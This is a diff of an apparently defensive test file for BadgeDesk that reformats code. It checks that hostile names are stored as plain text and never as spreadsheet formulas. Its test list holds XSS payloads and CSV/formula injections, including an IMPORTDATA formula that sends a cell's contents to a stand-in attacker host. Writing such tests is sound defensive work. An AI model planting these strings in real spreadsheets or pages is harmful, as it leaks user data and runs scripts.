@@ -13,7 +13,7 @@ const HOSTILE = [
   '<script>alert("badge")</script>',
   "<img src=x onerror=alert(1)>",
   '=HYPERLINK("http://evil.example","Claim here")',
-  "=IMPORTDATA(\"http://evil.example/?\"&A1)",
+  '=IMPORTDATA("http://evil.example/?"&A1)',
   "+Ana",
   "-Ana",
   "@Ana",
@@ -65,7 +65,10 @@ it("decides every hostile name Badge (a name is never refused for its characters
 it("stores no formula in any sheet BadgeDesk writes", () => {
   const book = spreadsheetOf(w.runtime);
   for (const sheet of book.sheetNames()) {
-    const formulas = book.formulas(sheet).flat().filter((f) => f !== "");
+    const formulas = book
+      .formulas(sheet)
+      .flat()
+      .filter((f) => f !== "");
     expect({ sheet, formulas }).toEqual({ sheet, formulas: [] });
   }
 });
@@ -76,11 +79,16 @@ it("keeps each hostile text as exactly that text in Entries and in the report", 
   for (const text of HOSTILE) {
     const fromForm = entries.find((r) => r["Student First Name"] === text);
     const typed = entries.find((r) => r["Student Last Name"] === text);
-    expect({ text, form: fromForm?.["Student First Name"], typed: typed?.Site }).toEqual({ text, form: text, typed: text });
+    expect({ text, form: fromForm?.["Student First Name"], typed: typed?.Site }).toEqual({
+      text,
+      form: text,
+      typed: text,
+    });
     expect(report.map((r) => r.Student)).toEqual(expect.arrayContaining([`${text} Ruiz`, `Ana ${text}`]));
   }
   for (const row of report) {
-    for (const header of ["Student", "Student Email", "Credential", "Site", "Reason"]) expect(typeof row[header]).toBe("string");
+    for (const header of ["Student", "Student Email", "Credential", "Site", "Reason"])
+      expect(typeof row[header]).toBe("string");
   }
 });
 
